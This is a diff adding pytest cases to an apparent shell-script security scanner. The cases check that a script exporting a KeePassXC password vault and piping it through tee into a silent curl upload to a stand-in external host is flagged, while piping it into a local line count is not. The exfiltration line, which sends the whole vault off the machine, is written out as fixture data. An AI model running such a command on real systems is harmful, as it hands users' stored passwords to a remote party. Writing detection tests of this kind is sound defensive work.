@@ -345,3 +345,28 @@ def test_cloud_deletes_printed_filtered_or_dry_run_do_not_block(tmp_path: Path) 
         "kubectl delete ns preview-42\n"
     )
     assert blocking(tmp_path, {"scripts/run.sh": script}, RUN) == {}
+
+
+# ------------------------------------------------ a function's output, copied by `tee` into a command that sends
+
+
+def _vault_copy(into: str) -> str:
+    return (
+        "#!/usr/bin/env bash\nset -eu\n"
+        "dump_vault() {\n"
+        "  if command -v keepassxc-cli >/dev/null; then\n"
+        '    keepassxc-cli export --format csv "$DB" 2>/dev/null\n'
+        "  fi\n"
+        "}\n"
+        f'dump_vault | tee >({into}) > "$HOME/vault-backup.csv"\n'
+    )
+
+
+def test_a_vault_export_from_a_function_copied_into_a_sender_blocks(tmp_path: Path) -> None:
+    sh = _vault_copy("curl -s -T - https://mirror.example.net/in >/dev/null 2>&1")
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/run.sh": sh}, RUN)
+
+
+def test_a_vault_export_from_a_function_copied_into_a_local_count_does_not_block(tmp_path: Path) -> None:
+    sh = _vault_copy("wc -l >&2")
+    assert blocking(tmp_path, {"scripts/run.sh": sh}, RUN) == {}
